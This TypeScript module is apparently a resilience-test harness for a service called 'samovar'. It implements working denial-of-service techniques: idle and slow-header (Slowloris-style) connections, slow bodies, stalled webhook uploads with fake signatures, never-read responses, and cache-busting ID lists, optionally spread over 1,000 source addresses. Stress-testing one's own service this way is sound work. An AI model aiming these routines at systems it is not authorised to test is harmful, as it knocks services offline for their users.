// Attacks by connections: many, idle, slow to write, slow to read, stalled.
import type { Socket } from 'node:net'
import { type Attack, awaitManyAddresses, countAnswers, counter, manyAddress, open, pause } from './tools.ts'

const MOST_RAMP_MS = 30_000

/** Opens all as fast as it can, holds them for so many seconds once it has sent everything, and lets them go. */
const holding =
  (onOpen: (socket: Socket) => void, tick: (socket: Socket) => void = () => {}): Attack =>
  async (target, { seconds, count: wanted, hasManyAddresses }) => {
    const { counts, count } = counter()
    const isSpread = hasManyAddresses && (await awaitManyAddresses())
    counts.addresses = isSpread ? 1_000 : 1
    const rampUntilMs = Date.now() + MOST_RAMP_MS
    const sockets: Socket[] = []
    for (let i = 0; i < wanted && Date.now() < rampUntilMs; i++) {
      const socket = open(target, count, onOpen, isSpread ? manyAddress(i % 1_000) : undefined)
      countAnswers(socket, count)
      sockets.push(socket)
      if (i % 100 === 99) await pause(5)
    }
    const isUnderWay = (socket: Socket) =>
      !socket.destroyed && (socket.connecting || socket.writableLength > 0)
    while (Date.now() < rampUntilMs && sockets.some(isUnderWay)) await pause(100)
    for (const untilMs = Date.now() + seconds * 1_000; Date.now() < untilMs; await pause(1_000))
      for (const socket of sockets) if (socket.writable && !socket.connecting) tick(socket)
    for (const socket of sockets) socket.removeAllListeners('close').destroy()
    return counts
  }

const head = (method: string, path: string, ...lines: string[]) =>
  [`${method} ${path} HTTP/1.1`, 'Host: samovar', ...lines, '', ''].join('\r\n')

/** Keep-alive after a request: what a browser leaves open. */
export const idleConnections = holding((socket) => void socket.write(head('GET', '/livez')))

/** A header a second, never the last one. */
export const slowHeaders = holding(
  (socket) => void socket.write('GET /livez HTTP/1.1\r\nHost: samovar\r\n'),
  (socket) => void socket.write('X-Slow: x\r\n'),
)

/** A byte a second of a body that was announced as longer. */
export const slowBodies = holding(
  (socket) =>
    void socket.write(head('POST', '/api/calls', 'Content-Type: application/json', 'Content-Length: 99000')),
  (socket) => void socket.write(' '),
)

const ALMOST_A_MEGABYTE = Buffer.alloc(1_000_000, 'x')

/** A signed-looking delivery of a megabyte, but for its last byte: in two waves, half of the time each. */
export const stalledWebhooks: Attack = async (target, options) => {
  const wave = holding((socket) => {
    const lines = ['Content-Type: application/json', `Content-Length: ${ALMOST_A_MEGABYTE.length + 1}`]
    const signature = ['Webhook-Id: x', 'Webhook-Timestamp: 1', 'Webhook-Signature: v1,AAAA']
    socket.write(head('POST', '/api/webhooks/payments', ...lines, ...signature))
    socket.write(ALMOST_A_MEGABYTE)
  })
  const first = await wave(target, { ...options, seconds: options.seconds / 2 })
  const second = await wave(target, { ...options, seconds: options.seconds / 2 })
  for (const [what, times] of Object.entries(second)) first[what] = (first[what] ?? 0) + times
  return first
}

/** Pages are asked for one after another on each connection, and never read. */
export const slowReaders: Attack = async (target, { seconds, count: wanted }) => {
  const { counts, count } = counter()
  const pages = (head('GET', '/markets') + head('GET', '/api/countries')).repeat(50)
  const sockets = Array.from({ length: wanted }, () =>
    open(target, count, (socket) => {
      socket.pause()
      socket.write(pages)
    }),
  )
  await pause(seconds * 1_000)
  for (const socket of sockets) socket.removeAllListeners('close').destroy()
  return counts
}

/** Lists of names that nobody has, and the caller is gone before the answer. */
export const madeUpNames: Attack = async (target, { seconds, count: wanted }) => {
  const { counts, count } = counter()
  const name = (i: number, j: number) => `n${i.toString(36)}-${j.toString(36)}-${Date.now().toString(36)}`
  for (let i = 0; i < wanted; i++) {
    const ids = Array.from({ length: 250 }, (_, j) => name(i, j)).join(',')
    open(target, count, (socket) => socket.end(head('GET', `/api/coins?ids=${ids}`), () => socket.destroy()))
  }
  await pause(seconds * 1_000)
  return counts
}
